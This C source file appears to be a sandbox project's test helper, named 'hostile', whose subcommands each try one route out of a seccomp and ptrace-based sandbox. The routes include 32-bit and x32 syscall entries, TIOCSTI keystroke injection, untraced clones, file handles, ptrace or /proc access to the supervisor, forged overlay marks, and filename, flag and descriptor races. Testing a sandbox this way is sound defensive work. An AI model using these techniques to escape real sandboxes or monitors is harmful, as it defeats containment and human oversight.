/*
 * hostile ATTACK [ARGUMENT...]: tries one way round a sandbox. Exit status 0: the calls went through; 10: one of them
 * was refused (which, and how, is printed); 2: wrong use; 77: it cannot be tried here. What became of the files is the
 * caller's to look at.
 */
#include "../../filter/program.h"
#include "ia32.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/openat2.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <unistd.h>

enum { REFUSED = 10, UNTRIED = 77, ROUNDS = 4000 };

/* COFFER_ROUNDS: of a race, for longer ones on demand. */
static int rounds(void)
{
    const char *wanted = getenv("COFFER_ROUNDS");
    return wanted == NULL ? ROUNDS : atoi(wanted);
}

static char **arguments;

static int refused(const char *what)
{
    printf("%s: %s\n", what, strerror(errno));
    return REFUSED;
}

static int outcome(const char *what, long result)
{
    return result < 0 ? refused(what) : 0;
}

static int write_to(int fd, const char *what)
{
    if (fd < 0)
        return refused(what);
    return outcome("write", write(fd, "hostile\n", 8));
}

/* ---- doors in the kernel ---- */

static int listener(void)
{
    struct sock_filter code[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
    struct sock_fprog program = {.len = 1, .filter = code};
    (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    return outcome("seccomp",
                   syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program));
}

/* FILE: created through the 32-bit entry. */
static int int80(void)
{
    char *low = ia32_begin(4096);
    snprintf(low, 4096, "%s", arguments[0]);
    return write_to((int)IA32(5, low, O_WRONLY | O_CREAT | O_TRUNC, 0644), "int 0x80");
}

/*
 * FILE: an open with the marks of one that waits for a descriptor of the supervisor (grant.h), after one that got such
 * a descriptor, so that somebody reads the listener.
 */
static int marked(void)
{
    char *low = ia32_begin(4096);
    snprintf(low, 4096, "%s", arguments[0]);
    if (close((int)IA32(5, low, O_WRONLY | O_CREAT, 0644)) < 0)
        return UNTRIED;
    return outcome("a marked open",
                   syscall(SYS_openat, AT_FDCWD, arguments[0], O_RDONLY, 0, PROGRAM_GRANT_4, PROGRAM_GRANT_5));
}

/* FILE: changed through it, by a call that the kernel need not make. */
static int int80_chmod(void)
{
    char *low = ia32_begin(4096);
    snprintf(low, 4096, "%s", arguments[0]);
    return outcome("int 0x80", IA32(15, low, 04777));
}

static int int80_io_uring(void)
{
    char *low = ia32_begin(4096);
    return outcome("int 0x80", IA32(425, 8, low));
}

/* The upper halves of registers, which the kernel does not look at. */
static int int80_type_ahead(void)
{
    char *low = ia32_begin(4096);
    *low = 'x';
#ifdef __x86_64__
    const uintptr_t upper = (uintptr_t)1 << 32;
#else
    const uintptr_t upper = 0;
#endif
    return outcome("int 0x80", IA32(54, STDIN_FILENO, upper | TIOCSTI, low));
}

static int x32(void)
{
    return write_to((int)syscall(0x40000000 | SYS_open, arguments[0], O_WRONLY | O_CREAT | O_TRUNC, 0644), "x32 open");
}

static int io_uring(void)
{
    char parameters[256] = {0};
    return outcome("io_uring_setup", syscall(SYS_io_uring_setup, 8, parameters));
}

static int child_status(pid_t child)
{
    int status = 0;
    if (child < 0)
        return refused("clone");
    return waitpid(child, &status, __WALL) == child && WIFEXITED(status) ? WEXITSTATUS(status) : REFUSED;
}

static int overwrite(const char *file)
{
    return write_to(open(file, O_WRONLY | O_CREAT | O_TRUNC, 0644), file);
}

static int untraced(void)
{
    pid_t child = (pid_t)syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, NULL, NULL, NULL, NULL);
    if (child == 0)
        _exit(overwrite(arguments[0]));
    return child_status(child);
}

static int untraced3(void)
{
    struct clone_args how = {.flags = CLONE_UNTRACED, .exit_signal = SIGCHLD};
    pid_t child = (pid_t)syscall(SYS_clone3, &how, sizeof how);
    if (child == 0)
        _exit(overwrite(arguments[0]));
    return child_status(child);
}

struct handle {
    struct file_handle head;
    unsigned char bytes[MAX_HANDLE_SZ];
};

/* FILE DIRECTORY: prints the handle; for `by-handle`, which may run elsewhere. */
static int handle_of(void)
{
    struct handle handle = {.head.handle_bytes = MAX_HANDLE_SZ};
    int mount;
    if (name_to_handle_at(AT_FDCWD, arguments[0], &handle.head, &mount, 0) < 0)
        return refused("name_to_handle_at");
    printf("%d ", handle.head.handle_type);
    for (unsigned i = 0; i < handle.head.handle_bytes; i++)
        printf("%02x", handle.head.f_handle[i]);
    printf("\n");
    return 0;
}

/* TYPE HEX DIRECTORY */
static int by_handle(void)
{
    struct handle handle = {.head.handle_type = atoi(arguments[0])};
    for (const char *hex = arguments[1]; hex[0] != '\0' && hex[1] != '\0'; hex += 2) {
        unsigned byte;
        if (sscanf(hex, "%2x", &byte) != 1)
            return 2;
        handle.head.f_handle[handle.head.handle_bytes++] = (unsigned char)byte;
    }
    int mount = open(arguments[2], O_RDONLY | O_DIRECTORY);
    return write_to(open_by_handle_at(mount, &handle.head, O_WRONLY | O_TRUNC), "open_by_handle_at");
}

static int mounts(void)
{
    return outcome("mount", mount("/", arguments[0], NULL, MS_BIND, NULL));
}

/* ---- the supervisor, or any other process outside: PID ---- */

static pid_t target(void)
{
    return arguments[0] == NULL ? getppid() : atoi(arguments[0]);
}

static int trace_other(void)
{
    pid_t pid = target();
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
        return refused("ptrace");
    (void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
    return 0;
}

static int attach_other(void)
{
    pid_t pid = target();
    int status;
    if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0)
        return refused("ptrace");
    (void)waitpid(pid, &status, __WALL);
    (void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
    return 0;
}

static int read_other(void)
{
    char byte;
    struct iovec here = {&byte, 1}, there = {NULL, 1};
    /* Nothing is mapped at 0: whoever is let in gets EFAULT. */
    if (process_vm_readv(target(), &here, 1, &there, 1, 0) < 0 && errno != EFAULT)
        return refused("process_vm_readv");
    return 0;
}

static int fd_of_other(void)
{
    int pidfd = (int)syscall(SYS_pidfd_open, target(), 0);
    if (pidfd < 0)
        return refused("pidfd_open");
    return outcome("pidfd_getfd", syscall(SYS_pidfd_getfd, pidfd, 0, 0));
}

static int proc_open(const char *name, int flags)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", (int)target(), name);
    return outcome(path, open(path, flags));
}

static int memory_of_other(void)
{
    return proc_open("mem", O_RDWR);
}

/* PID: any of its descriptors that can be opened for writing. */
static int descriptors_of_other(void)
{
    int worst = REFUSED;
    for (int fd = 3; fd < 64; fd++) {
        char name[32];
        snprintf(name, sizeof name, "fd/%d", fd);
        if (proc_open(name, O_RDONLY) == 0)
            worst = 0;
    }
    return worst;
}

/* PID FILE: writes to FILE below the root of the process. */
static int root_of_other(void)
{
    char path[4200];
    snprintf(path, sizeof path, "/proc/%d/root%s", (int)target(), arguments[1]);
    return overwrite(path);
}

/* FILE: kills the parent; a child of ours in a session of its own then writes. */
static int kill_parent(void)
{
    pid_t parent = getppid();
    if (fork() == 0) {
        setsid();
        while (kill(parent, 0) == 0)
            usleep(1000);
        usleep(200 * 1000);
        _exit(overwrite(arguments[0]));
    }
    usleep(50 * 1000);
    if (kill(parent, SIGKILL) < 0)
        return refused("kill");
    sleep(1);
    return overwrite(arguments[0]);
}

/* ---- forged marks of the layer ---- */

static int whiteout(void)
{
    return outcome("mknod", mknod(arguments[0], S_IFCHR | 0600, makedev(0, 0)));
}

static int opaque(void)
{
    return outcome("setxattr", setxattr(arguments[0], "user.overlay.opaque", "y", 1, 0));
}

/* ---- a file of the host through what may only be read ---- */

static int by_read_only(void)
{
    int fd = open(arguments[0], O_RDONLY);
    static const struct timespec times[2] = {{.tv_sec = 1}, {.tv_sec = 1}};
    struct stat st;
    if (fd < 0 || fstat(fd, &st) < 0)
        return refused(arguments[0]);
    long attributes = 0x80; /* FS_NOATIME_FL */
    int failed = (fchmod(fd, 0600) < 0) + (fchown(fd, st.st_uid, st.st_gid) < 0) + (futimens(fd, times) < 0) +
                 (fsetxattr(fd, "user.hostile", "y", 1, 0) < 0);
    (void)ioctl(fd, _IOW('f', 2, long), &attributes);
    return failed == 4 ? refused("all of fchmod, fchown, futimens, fsetxattr") : 0;
}

static int by_proc_fd(void)
{
    char path[64];
    int fd = open(arguments[0], O_RDONLY);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int cut = truncate(path, 0);
    int again = open(path, O_WRONLY | O_TRUNC);
    if (cut < 0 && again < 0)
        return refused(path);
    return again < 0 ? 0 : write_to(again, path);
}

/* Types a character into the terminal that it makes for itself. */
static int type_ahead(void)
{
    int master = posix_openpt(O_RDWR | O_NOCTTY);
    if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0)
        return UNTRIED;
    int terminal = open(ptsname(master), O_RDWR | O_NOCTTY);
    pid_t child = fork();
    if (child == 0) {
        setsid();
        (void)ioctl(terminal, TIOCSCTTY, 0);
        _exit(outcome("TIOCSTI", ioctl(terminal, TIOCSTI, "x")));
    }
    return child_status(child);
}

/* ---- races ---- */

static atomic_bool ending;

static void *flip_name(void *context)
{
    char *name = context;
    while (!ending) {
        memcpy(name, arguments[0], strlen(arguments[0]) + 1);
        memcpy(name, arguments[1], strlen(arguments[1]) + 1);
    }
    return NULL;
}

static void race(void *(*other)(void *), void *context, void (*round)(void *))
{
    pthread_t thread;
    if (pthread_create(&thread, NULL, other, context) != 0)
        _exit(UNTRIED);
    for (int i = 0, count = rounds(); i < count; i++)
        round(context);
    ending = true;
    pthread_join(thread, NULL);
}

static void write_and_close(int fd)
{
    if (fd < 0)
        return;
    (void)!write(fd, "won\n", 4);
    close(fd);
}

static void open_name(void *context)
{
    write_and_close(open(context, O_WRONLY));
}

static void open_how_name(void *context)
{
    struct open_how how = {.flags = O_WRONLY};
    write_and_close((int)syscall(SYS_openat2, AT_FDCWD, context, &how, sizeof how));
}

static void chmod_name(void *context)
{
    (void)chmod(context, 0604);
}

static void chown_name(void *context)
{
    (void)!chown(context, getuid(), getgid());
}

static void truncate_name(void *context)
{
    (void)!truncate(context, 1);
}

static void unlink_name(void *context)
{
    (void)unlink(context);
}

static void touch_name(void *context)
{
    static const struct timespec times[2] = {{.tv_sec = 1}, {.tv_sec = 1}};
    (void)utimensat(AT_FDCWD, context, times, 0);
}

static void setxattr_name(void *context)
{
    (void)setxattr(context, "user.hostile", "y", 1, 0);
}

static void rename_name(void *context)
{
    (void)rename(context, "file.renamed");
}

static void link_name(void *context)
{
    (void)!link(context, "file.linked");
}

static void rmdir_name(void *context)
{
    (void)rmdir(context);
}

static void mkdir_name(void *context)
{
    (void)mkdir(context, 0755);
}

static void mknod_name(void *context)
{
    (void)mknod(context, S_IFIFO | 0644, 0);
}

static void symlink_name(void *context)
{
    (void)!symlink("nowhere", context);
}

static const struct {
    const char *name;
    void (*round)(void *);
} names[] = {
    {"open", open_name},         {"openat2", open_how_name}, {"chmod", chmod_name},   {"chown", chown_name},
    {"truncate", truncate_name}, {"unlink", unlink_name},    {"utimens", touch_name}, {"setxattr", setxattr_name},
    {"rename", rename_name},     {"link", link_name},        {"rmdir", rmdir_name},   {"mkdir", mkdir_name},
    {"mknod", mknod_name},       {"symlink", symlink_name},
};

static bool read_secret;

static void read_name(void *context)
{
    char text[64] = "";
    int fd = open(context, O_RDONLY);
    if (fd < 0)
        return;
    if (read(fd, text, sizeof text - 1) > 0 && strstr(text, "secret") != NULL)
        read_secret = true;
    close(fd);
}

/* HARMLESS FILE: whether a file that has "secret" in it can be read. */
static int race_read(void)
{
    static char name[4096];
    memcpy(name, arguments[0], strlen(arguments[0]) + 1);
    race(flip_name, name, read_name);
    return read_secret ? 0 : REFUSED;
}

/* HARMLESS FILE CALL: not of the same length; that one of them may be seen cut off does no harm. */
static int race_name(void)
{
    static char name[4096];
    memcpy(name, arguments[0], strlen(arguments[0]) + 1);
    for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
        if (strcmp(names[i].name, arguments[2]) == 0) {
            race(flip_name, name, names[i].round);
            return 0;
        }
    }
    return 2;
}

static void *flip_flags(void *context)
{
    struct open_how *how = context;
    while (!ending) {
        *(volatile uint64_t *)&how->flags = O_RDONLY;
        *(volatile uint64_t *)&how->flags = O_WRONLY;
    }
    return NULL;
}

/* Another file each time, because one that was opened for writing once is the layer's from then on. */
static void open_by_flags(void *context)
{
    static unsigned count;
    char name[4200];
    snprintf(name, sizeof name, "%s%u", arguments[0], count++ % 200);
    write_and_close((int)syscall(SYS_openat2, AT_FDCWD, name, context, sizeof(struct open_how)));
}

/* PREFIX: of 200 files. */
static int race_flags(void)
{
    struct open_how how = {.flags = O_RDONLY};
    race(flip_flags, &how, open_by_flags);
    return 0;
}

static int swapped[3]; /* layer, host, the one that changes */

static void *flip_descriptor(void *context)
{
    (void)context;
    while (!ending) {
        dup2(swapped[0], swapped[2]);
        dup2(swapped[1], swapped[2]);
    }
    return NULL;
}

static void change_descriptor(void *context)
{
    (void)context;
    fchmod(swapped[2], 0604);
    fchown(swapped[2], getuid(), getgid());
}

/* OWN FILE: OWN is made first. */
static int race_descriptor(void)
{
    swapped[0] = open(arguments[0], O_RDWR | O_CREAT, 0644);
    swapped[1] = open(arguments[1], O_RDONLY);
    swapped[2] = dup(swapped[0]);
    if (swapped[0] < 0 || swapped[1] < 0)
        return refused(arguments[1]);
    race(flip_descriptor, NULL, change_descriptor);
    return 0;
}

static void *flip_link(void *context)
{
    char link[4200];
    snprintf(link, sizeof link, "%s.new", (char *)context);
    for (int i = 0; !ending; i++) {
        (void)unlink(link);
        (void)!symlink(arguments[i % 2], link);
        (void)rename(link, context);
    }
    return NULL;
}

/* HARMLESS FILE LINK: LINK leads to one, then to the other. HARMLESS is made if it is not there. */
static int race_link(void)
{
    (void)close(open(arguments[0], O_WRONLY | O_CREAT, 0644));
    (void)!symlink(arguments[0], arguments[2]);
    race(flip_link, arguments[2], open_name);
    return 0;
}

/* ---- what must go on working ---- */

static int undumpable(void)
{
    struct stat st;
    if (prctl(PR_SET_DUMPABLE, 0, 0, 0, 0) < 0 || prctl(PR_GET_DUMPABLE, 0, 0, 0, 0) != 0)
        return refused("prctl");
    if (stat(arguments[0], &st) < 0 || close(open(arguments[0], O_RDONLY)) < 0)
        return refused(arguments[0]);
    return overwrite(arguments[0]);
}

static const struct {
    const char *name;
    int count; /* of arguments that it needs */
    int (*attack)(void);
} attacks[] = {
    {"listener", 0, listener},
    {"int80", 1, int80},
    {"marked", 1, marked},
    {"int80-chmod", 1, int80_chmod},
    {"int80-io_uring", 0, int80_io_uring},
    {"int80-type-ahead", 0, int80_type_ahead},
    {"x32", 1, x32},
    {"io_uring", 0, io_uring},
    {"untraced", 1, untraced},
    {"untraced3", 1, untraced3},
    {"handle-of", 1, handle_of},
    {"by-handle", 3, by_handle},
    {"mount", 1, mounts},
    {"seize", 0, trace_other},
    {"attach", 0, attach_other},
    {"read-other", 0, read_other},
    {"fd-of-other", 0, fd_of_other},
    {"mem-of-other", 0, memory_of_other},
    {"fds-of-other", 0, descriptors_of_other},
    {"root-of-other", 2, root_of_other},
    {"kill-parent", 1, kill_parent},
    {"whiteout", 1, whiteout},
    {"opaque", 1, opaque},
    {"read-only", 1, by_read_only},
    {"proc-fd", 1, by_proc_fd},
    {"type-ahead", 0, type_ahead},
    {"race-name", 3, race_name},
    {"race-read", 2, race_read},
    {"race-flags", 1, race_flags},
    {"race-descriptor", 2, race_descriptor},
    {"race-link", 3, race_link},
    {"undumpable", 1, undumpable},
};

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    for (size_t i = 0; argc > 1 && i < sizeof attacks / sizeof attacks[0]; i++) {
        if (strcmp(attacks[i].name, argv[1]) != 0 || argc - 2 < attacks[i].count)
            continue;
        arguments = argv + 2;
        return attacks[i].attack();
    }
    fprintf(stderr, "usage: hostile ATTACK [ARGUMENT...]\n");
    return 2;
}
